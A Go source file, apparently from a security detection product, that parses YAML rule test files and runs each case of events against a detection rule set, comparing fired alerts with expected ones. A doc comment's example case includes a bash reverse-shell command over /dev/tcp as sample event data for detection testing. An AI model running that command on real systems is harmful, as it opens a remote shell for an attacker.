package ruleset

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"slices"
	"strings"
	"time"

	"gopkg.in/yaml.v3"

	"github.com/vigilsec/vigil/internal/detect/engine"
	"github.com/vigilsec/vigil/internal/event"
)

// A rule test file (name ending in TestSuffix, beside the rules) holds
// cases: events in, alerts out. Every rule of the set runs over every
// case, so a case also proves that no other rule fires on it.
//
//	cases:
//	  - name: bash reverse shell over /dev/tcp
//	    events:
//	      - event: {category: process, action: exec}
//	        process: {executable: /usr/bin/bash, command_line: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}
//	      - after: 30s            # time since the previous event (default 1s)
//	        event: {category: network, action: connect}
//	    alerts:                   # every alert the case raises, by rule id
//	      - rule: 0b7e4c9a-...
//	        count: 1              # optional
//	  - name: an administrator's ordinary work
//	    events: [...]
//	    alerts: []                # nothing at all may fire
//
// Events are ECS documents as the agent sends them; event.id,
// @timestamp, agent.id and host.id are filled in when absent.

// TestFile is a parsed rule test file.
type TestFile struct {
	Cases []TestCase `yaml:"cases"`
}

// TestCase is one case of a test file.
type TestCase struct {
	Name   string           `yaml:"name"`
	Events []map[string]any `yaml:"events"`
	Alerts []ExpectedAlert  `yaml:"alerts"`
	// Line is where the case starts.
	Line int `yaml:"-"`
}

// ExpectedAlert is an alert a case must raise.
type ExpectedAlert struct {
	Rule string `yaml:"rule"`
	// Count, when not zero, is how many detections of the rule the case
	// must give.
	Count int `yaml:"count"`
}

// TestResult is the outcome of one case.
type TestResult struct {
	File, Case string
	Line       int
	// Fired counts the detections of each rule id.
	Fired map[string]int
	// Err says why the case failed; nil when it passed.
	Err error
}

// testAgent is the agent of test events that name none.
const testAgent = "rule-test-agent"

// testStart is the time of a case's first event unless it says another.
var testStart = time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)

// RunTests runs every test file under root of fsys against rs, each case
// on fresh correlation windows. A file that cannot be parsed is one
// failed result.
func RunTests(rs *RuleSet, fsys fs.FS, root string) []TestResult {
	var results []TestResult
	err := fs.WalkDir(fsys, root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			results = append(results, TestResult{File: p, Err: err})
			return nil
		}
		if d.IsDir() || !strings.HasSuffix(p, TestSuffix) {
			return nil
		}
		data, err := fs.ReadFile(fsys, p)
		if err != nil {
			results = append(results, TestResult{File: p, Err: err})
			return nil
		}
		tf, err := ParseTestFile(data)
		if err != nil {
			results = append(results, TestResult{File: p, Err: err})
			return nil
		}
		for _, c := range tf.Cases {
			r := rs.RunCase(c)
			r.File = p
			results = append(results, r)
		}
		return nil
	})
	if err != nil {
		results = append(results, TestResult{File: root, Err: err})
	}
	return results
}

// ParseTestFile parses a rule test file strictly: unknown keys are
// errors, with their line.
func ParseTestFile(data []byte) (*TestFile, error) {
	var tf TestFile
	dec := yaml.NewDecoder(bytes.NewReader(data))
	dec.KnownFields(true)
	if err := dec.Decode(&tf); err != nil {
		return nil, fmt.Errorf("test file: %w", err)
	}
	var root yaml.Node
	if err := yaml.Unmarshal(data, &root); err != nil {
		return nil, fmt.Errorf("test file: %w", err)
	}
	// Lines of the cases, for the results.
	if len(root.Content) == 1 && root.Content[0].Kind == yaml.MappingNode {
		m := root.Content[0]
		for i := 0; i+1 < len(m.Content); i += 2 {
			if m.Content[i].Value == "cases" && m.Content[i+1].Kind == yaml.SequenceNode {
				for j, n := range m.Content[i+1].Content {
					if j < len(tf.Cases) {
						tf.Cases[j].Line = n.Line
					}
				}
			}
		}
	}
	if len(tf.Cases) == 0 {
		return nil, errors.New("test file: no cases")
	}
	for i, c := range tf.Cases {
		switch {
		case strings.TrimSpace(c.Name) == "":
			return nil, fmt.Errorf("test file: line %d: case %d has no name", c.Line, i+1)
		case len(c.Events) == 0:
			return nil, fmt.Errorf("test file: line %d: case %q has no events", c.Line, c.Name)
		}
		for _, a := range c.Alerts {
			if a.Rule == "" || a.Count < 0 {
				return nil, fmt.Errorf("test file: line %d: case %q: an alert needs a rule id and a count of at least 0", c.Line, c.Name)
			}
		}
	}
	return &tf, nil
}

// RunCase runs one case on fresh correlation windows and compares what
// fired with what it expects.
func (rs *RuleSet) RunCase(c TestCase) TestResult {
	res := TestResult{Case: c.Name, Line: c.Line, Fired: map[string]int{}}
	if rs.corr != nil {
		rs.corr.Reset()
	}
	at := testStart
	var buf []*engine.Rule
	var out []Detection
	for i, fields := range c.Events {
		ev, next, err := testEvent(fields, i, at)
		if err != nil {
			res.Err = fmt.Errorf("event %d: %w", i+1, err)
			return res
		}
		at = next
		out = out[:0]
		buf, out = rs.Evaluate(ev, buf, out)
		for _, d := range out {
			res.Fired[d.Rule.ID]++
		}
	}
	// Windows that close after the last event.
	for _, d := range rs.Flush(at.Add(400 * 24 * time.Hour)) {
		res.Fired[d.Rule.ID]++
	}
	var problems []string
	want := map[string]int{}
	for _, a := range c.Alerts {
		want[a.Rule] = a.Count
		n, ok := res.Fired[a.Rule]
		switch {
		case !ok:
			problems = append(problems, fmt.Sprintf("rule %s did not fire", a.Rule))
		case a.Count > 0 && n != a.Count:
			problems = append(problems, fmt.Sprintf("rule %s fired %d times, want %d", a.Rule, n, a.Count))
		}
	}
	for _, id := range slices.Sorted(maps.Keys(res.Fired)) {
		if _, ok := want[id]; !ok {
			problems = append(problems, fmt.Sprintf("rule %s (%s) fired %d times unexpectedly", id, rs.title(id), res.Fired[id]))
		}
	}
	if len(problems) > 0 {
		res.Err = errors.New(strings.Join(problems, "; "))
	}
	return res
}

func (rs *RuleSet) title(id string) string {
	for _, r := range rs.Rules {
		if r.ID == id {
			return r.Title
		}
	}
	return ""
}

// testEvent turns a case's event into an event: `after` moves the clock
// (default 1s after the previous event), and event.id, @timestamp,
// agent.id and host.id are filled in when absent. It returns the event
// and its time.
func testEvent(fields map[string]any, i int, prev time.Time) (event.Event, time.Time, error) {
	ev := event.Event{}
	step := time.Second
	for k, v := range fields {
		if k == "after" {
			s, ok := v.(string)
			d, err := time.ParseDuration(s)
			if !ok || err != nil || d < 0 {
				return nil, prev, fmt.Errorf("after: %v is not a duration such as 30s", v)
			}
			step = d
			continue
		}
		ev[k] = normalize(v)
	}
	at := prev
	if i > 0 || step != time.Second {
		at = prev.Add(step)
	}
	if ts, ok := ev[event.FieldTimestamp].(string); ok {
		t, err := time.Parse(time.RFC3339Nano, ts)
		if err != nil {
			return nil, prev, fmt.Errorf("@timestamp %q: %w", ts, err)
		}
		at = t
	} else {
		ev.Set(event.FieldTimestamp, at.Format(time.RFC3339Nano))
	}
	if ev.ID() == "" {
		ev.Set(event.FieldID, fmt.Sprintf("test-%d", i+1))
	}
	if ev.AgentID() == "" {
		ev.Set(event.FieldAgentID, testAgent)
	}
	if ev.String(event.FieldHostID) == "" {
		ev.Set(event.FieldHostID, testAgent)
	}
	if err := ev.Validate(); err != nil {
		return nil, prev, err
	}
	return ev, at, nil
}

// normalize makes YAML values look like decoded JSON: numbers float64,
// maps map[string]any, times RFC 3339 strings.
func normalize(v any) any {
	switch x := v.(type) {
	case map[string]any:
		for k, e := range x {
			x[k] = normalize(e)
		}
		return x
	case []any:
		for i, e := range x {
			x[i] = normalize(e)
		}
		return x
	case int:
		return float64(x)
	case int64:
		return float64(x)
	case uint64:
		return float64(x)
	case time.Time:
		return x.UTC().Format(time.RFC3339Nano)
	}
	return v
}
